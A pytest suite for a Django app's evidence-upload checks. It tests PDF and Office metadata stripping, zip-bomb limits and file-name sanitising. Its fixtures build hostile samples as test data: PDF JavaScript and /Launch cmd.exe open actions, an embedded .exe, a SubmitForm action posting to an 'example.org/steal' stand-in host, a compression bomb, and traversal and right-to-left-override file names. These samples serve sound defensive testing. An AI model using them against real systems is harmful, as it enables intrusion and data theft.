"""Deeper content checks on evidence (issue 9, item 7): a PDF must parse and may not act on
its own; PDF and Office files lose the metadata that names people; an Office file's unpacked
size is bounded before anything unpacks it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

from antoan.programme.files import EVIDENCE_ZIP, check_upload
from antoan.programme.models import Evidence

EVERYTHING = {"jpeg", "png", "pdf", "xlsx", "docx"}
AUTHOR = "Nguyễn Thị Lan"


def check(name: str, data: bytes):
    return check_upload(SimpleUploadedFile(name, data), allowed=EVERYTHING, max_bytes=20 * 2**20)


def pdf(*, tweak=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": AUTHOR, "/Creator": "Máy của chị Lan"})
    if tweak is not None:
        tweak(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def test_a_pdf_is_kept_without_its_author_and_xmp():
    def with_xmp(writer):
        stream = StreamObject()
        stream.set_data(f"<x:xmpmeta><dc:creator>{AUTHOR}</dc:creator></x:xmpmeta>".encode())
        writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)

    original = pdf(tweak=with_xmp)
    assert b"Lan" in original
    kept = check("bien-ban.pdf", original).data
    reader = PdfReader(io.BytesIO(kept))
    assert reader.metadata is None or "/Author" not in reader.metadata
    assert "/Metadata" not in reader.trailer["/Root"]
    assert b"Lan" not in kept
    assert len(reader.pages) == 1


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n%fake pdf\n",
        b"%PDF-1.7\n" + b"0" * 4096,
        b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    ],
)
def test_a_file_that_only_starts_like_a_pdf_is_refused(data):
    with pytest.raises(ValidationError, match="Tệp PDF bị hỏng"):
        check("a.pdf", data)


ACTIVE = {
    "javascript_open_action": lambda w: w.add_open_action(JavaScript("app.alert(1)")),
    "launch_open_action": lambda w: w.root_object.__setitem__(
        NameObject("/OpenAction"), _action("/Launch", F="cmd.exe")
    ),
    "page_automatic_action": lambda w: w.pages[0].__setitem__(
        NameObject("/AA"),
        DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(2)")}),
    ),
    "embedded_file": lambda w: w.add_attachment("hoa-don.exe", b"MZ\x90\x00"),
    "submit_form": lambda w: w.root_object.__setitem__(
        NameObject("/OpenAction"), _action("/SubmitForm", F="https://example.org/steal")
    ),
}


@pytest.mark.parametrize("tweak", ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_with_active_content_is_refused(tweak):
    with pytest.raises(ValidationError, match="nội dung tự chạy"):
        check("bao-cao.pdf", pdf(tweak=tweak))


def test_a_pdf_opening_on_its_first_page_is_not_active_content():
    def fit(writer):
        page = writer.pages[0].indirect_reference
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(
            DictionaryObject(
                {
                    NameObject("/S"): NameObject("/GoTo"),
                    NameObject("/D"): ArrayObject([page, NameObject("/Fit")]),
                }
            )
        )

    assert check("bao-cao.pdf", pdf(tweak=fit)).kind == "pdf"


def office(main: str, *, creator: str = AUTHOR, extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(main, "<document/>")
        z.writestr(
            "docProps/core.xml",
            '<?xml version="1.0"?><cp:coreProperties xmlns:cp="c" xmlns:dc="d">'
            f"<dc:title>Danh sách tham dự</dc:title><dc:creator>{creator}</dc:creator>"
            f"<cp:lastModifiedBy>{creator}</cp:lastModifiedBy></cp:coreProperties>",
        )
        z.writestr(
            "docProps/app.xml",
            "<Properties><Company>Hội LHPN xã</Company><Manager>Trần Văn B</Manager>"
            "<Pages>1</Pages></Properties>",
        )
        for name, content in (extra or {}).items():
            z.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("main", "name"), [("word/document.xml", "a.docx"), ("xl/workbook.xml", "a.xlsx")]
)
def test_office_files_lose_who_wrote_them(main, name):
    kept = check(name, office(main)).data
    archive = zipfile.ZipFile(io.BytesIO(kept))
    core = archive.read("docProps/core.xml").decode()
    app = archive.read("docProps/app.xml").decode()
    assert AUTHOR not in core and "<dc:creator/>" in core and "<cp:lastModifiedBy/>" in core
    assert "Danh sách tham dự" in core  # the title is the document's, not a person's
    assert "Hội LHPN" not in app and "Trần Văn B" not in app and "<Pages>1</Pages>" in app
    assert archive.read(main) == b"<document/>"


def test_an_office_file_that_unpacks_too_far_is_refused_unread():
    big = b"0" * (EVIDENCE_ZIP.member + 1)
    with pytest.raises(ValidationError, match="giải nén ra"):
        check("a.docx", office("word/document.xml", extra={"word/media/x.bin": big}))


def test_an_office_file_compressed_a_thousandfold_is_refused():
    bomb = b"a" * (20 * 2**20)
    with pytest.raises(ValidationError, match="nén bất thường"):
        check("a.docx", office("word/document.xml", extra={"word/x.xml": bomb}))


def test_an_active_pdf_stores_nothing(cast, client_for, activity_a, media):
    response = client_for(cast["reporter1"]).post(
        f"/programme/activities/{activity_a.pk}/evidence/",
        {
            "kind": "document",
            "file": SimpleUploadedFile("bien-ban.pdf", pdf(tweak=ACTIVE["embedded_file"])),
        },
    )
    assert response.status_code == 400
    assert "nội dung tự chạy" in response.content.decode()
    assert not Evidence.objects.exists()
    assert not Path(media).exists() or not any(p.is_file() for p in Path(media).rglob("*"))


def test_a_clean_pdf_is_stored_without_its_author(cast, client_for, activity_a, media):
    response = client_for(cast["reporter1"]).post(
        f"/programme/activities/{activity_a.pk}/evidence/",
        {"kind": "document", "file": SimpleUploadedFile("bien-ban.pdf", pdf())},
    )
    assert response.status_code == 302
    stored = Path(Evidence.objects.get().file.path).read_bytes()
    assert b"Lan" not in stored and AUTHOR.encode("utf-16-be") not in stored


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\boot.pdf", "boot.pdf"),
        ("\u202egnp.exe.pdf", "gnp.exe.pdf"),
        ("Bie\u0302n ba\u0309n\u200b.pdf", "Biên bản.pdf"),
        ("a\x00b.pdf", "ab.pdf"),
    ],
)
def test_a_file_name_is_shown_without_folders_or_invisible_characters(name, shown):
    from antoan.programme.files import display_name

    assert display_name(name, ".pdf") == shown
